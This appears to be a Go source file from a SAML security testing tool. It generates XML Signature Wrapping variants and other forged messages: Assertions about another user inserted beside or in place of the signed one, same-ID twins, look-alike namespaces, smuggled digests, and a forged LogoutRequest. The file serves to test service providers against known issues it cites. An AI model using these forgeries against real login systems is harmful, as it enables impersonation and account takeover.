package fault

import (
	"errors"
	"slices"

	"github.com/beevik/etree"
)

// laterWrappings were found in products after the paper.
func laterWrappings() []wrapping {
	return []wrapping{
		{"9", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			placeSignature(forged, signature)
			info := signature.SelectElement("SignedInfo")
			second := info.Copy()
			insertAfter(info, second)
			reference := info.SelectElement("Reference")
			reference.CreateAttr("URI", "#_forged")
			reference.SelectElement("DigestValue").SetText(m.digest(forged, signature))
			wrapper := foreignElement("Wrapper", "urn:example:wrapper")
			wrapper.AddChild(genuine)
			m.extensionsOf().AddChild(wrapper)
		}},
		{"forged-last", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.AddChild(forged)
		}},
		{"genuine-in-extensions", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.InsertChildAt(genuine.Index(), forged)
			extensions := sibling(m.Response, "Extensions")
			extensions.AddChild(genuine)
			m.Response.InsertChildAt(statusIndex(m), extensions)
		}},
		{"genuine-in-status-detail", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			placeSignature(forged, signature)
			detail := sibling(m.Response, "StatusDetail")
			detail.AddChild(genuine)
			m.Response.SelectElement("Status").AddChild(detail)
		}},
		{"same-id-twin", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			forged.CreateAttr("ID", genuine.SelectAttrValue("ID", ""))
			m.Response.InsertChildAt(genuine.Index(), forged)
		}},
		{"genuine-in-advice", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.InsertChildAt(genuine.Index(), forged)
			advice := sibling(forged, "Advice")
			advice.AddChild(genuine)
			at := len(forged.Child)
			if conditions := forged.SelectElement("Conditions"); conditions != nil {
				at = conditions.Index() + 1
			}
			forged.InsertChildAt(at, advice)
		}},
		{"forged-in-object", false, func(_ *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			object := sibling(signature, "Object")
			object.AddChild(forged)
			signature.AddChild(object)
		}},
		{"digest-smuggled", false, func(m *Message, genuine, forged, signature *etree.Element) {
			m.Response.InsertChildAt(genuine.Index(), forged)
			genuine.Remove()
			forged.CreateAttr("ID", genuine.SelectAttrValue("ID", ""))
			detail := sibling(m.Response, "StatusDetail")
			value := etree.NewElement("ds:DigestValue")
			value.CreateAttr("xmlns:ds", signatureNamespace)
			value.SetText(m.digest(forged, nil))
			detail.AddChild(value)
			m.Response.SelectElement("Status").AddChild(detail)
			placeSignature(forged, signature)
		}},
		{"look-alike-assertion", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			forged.CreateAttr("xmlns:"+forged.Space, assertionNamespace+"/")
			m.Response.InsertChildAt(genuine.Index(), forged)
		}},
		{"look-alike-signature", false, func(m *Message, genuine, forged, signature *etree.Element) {
			placeSignature(genuine, signature)
			m.Response.InsertChildAt(genuine.Index(), forged)
			lookAlike := signature.Copy()
			for i, a := range lookAlike.Attr {
				if a.Value == signatureNamespace {
					lookAlike.Attr[i].Value = signatureNamespace + "signature"
				}
			}
			placeSignature(forged, lookAlike)
			m.extensionsOf().AddChild(genuine)
		}},
	}
}

// digest returns the DigestValue that a signature would have for el, as if
// without, one of its children, were not there yet.
func (m *Message) digest(el, without *etree.Element) string {
	if m.Digest == nil {
		m.failure = errors.New("nobody here can compute digests")
		return ""
	}
	if without != nil {
		at := without.Index()
		el.RemoveChildAt(at)
		defer el.InsertChildAt(at, without)
	}
	value, err := m.Digest(el)
	if err != nil {
		m.failure = err
	}
	return value
}

// The orders in which forged and genuine can stand.
const (
	genuineFirst = "genuine-first"
	forgedFirst  = "forged-first"
)

// arrangeInOrder moves the branch that holds one of the two before or after
// that of the other. Where one encloses the other, the inner one's branch
// becomes the outer one's first or last child.
func arrangeInOrder(genuine, forged *etree.Element, order string) {
	if order == "" || genuine.Parent() == nil && forged.Parent() == nil {
		return
	}
	first, second := genuine, forged
	if order == forgedFirst {
		first, second = forged, genuine
	}
	above := ancestors(second)
	at := slices.IndexFunc(ancestors(first), func(el *etree.Element) bool { return slices.Contains(above, el) })
	if at < 0 {
		return
	}
	common := ancestors(first)[at]
	switch common {
	case second:
		common.InsertChildAt(0, branch(common, first))
	case first:
		common.AddChild(branch(common, second))
	default:
		moved := branch(common, first)
		moved.Remove()
		common.InsertChildAt(branch(common, second).Index(), moved)
	}
}

// ancestors returns el and everything around it, inside out.
func ancestors(el *etree.Element) []*etree.Element {
	var all []*etree.Element
	for ; el != nil; el = el.Parent() {
		all = append(all, el)
	}
	return all
}

// branch returns the child of common that is or holds el.
func branch(common, el *etree.Element) *etree.Element {
	for el.Parent() != common {
		el = el.Parent()
	}
	return el
}

func forgedFaults() []Fault {
	return []Fault{
		{Name: "assertion-forged", Summary: "an unsigned Assertion about somebody else is added after signing",
			Refs:     []string{"OneUptime 2981"},
			Params:   []Param{otherPersonParam()},
			Document: addForged},
		{Name: "assertion-in-logout-request", Summary: "the signed Assertion stands in the Extensions of a forged LogoutRequest, which comes in place of the Response",
			Refs:     []string{"samlify issue 634"},
			Params:   []Param{otherPersonParam()},
			Document: forgeLogoutRequest},
	}
}

// addForged copies the Assertion, or the one that an error status has made
// the message lose.
func addForged(m *Message, a Args) error {
	model := m.Assertion
	if model == nil {
		model = m.withheld
	}
	if model == nil {
		return errors.New("there is no readable Assertion to forge one from")
	}
	name := ""
	if id := model.FindElement("Subject/NameID"); id != nil {
		name = id.Text()
	}
	forged := forge(model, name, a.String("value"))
	if signature := forged.SelectElement("Signature"); signature != nil {
		signature.Remove()
	}
	m.Response.AddChild(forged)
	return nil
}

// forgeLogoutRequest makes a LogoutRequest about somebody else of the Response,
// signed nowhere but in the Assertion that it carries along.
func forgeLogoutRequest(m *Message, a Args) error {
	genuine, err := m.element("Assertion")
	if err != nil {
		return err
	}
	id, err := m.element(nameID)
	if err != nil {
		return err
	}
	root := m.Response
	root.Tag = "LogoutRequest"
	root.CreateAttr("ID", "_forged")
	root.RemoveAttr("InResponseTo")
	for _, name := range []string{"Signature", "Status"} {
		if el := root.SelectElement(name); el != nil {
			el.Remove()
		}
	}
	extensions := sibling(root, "Extensions")
	root.InsertChildAt(genuine.Index(), extensions)
	extensions.AddChild(genuine)
	about := id.Copy()
	about.SetText(a.String("value"))
	root.AddChild(about)
	return nil
}
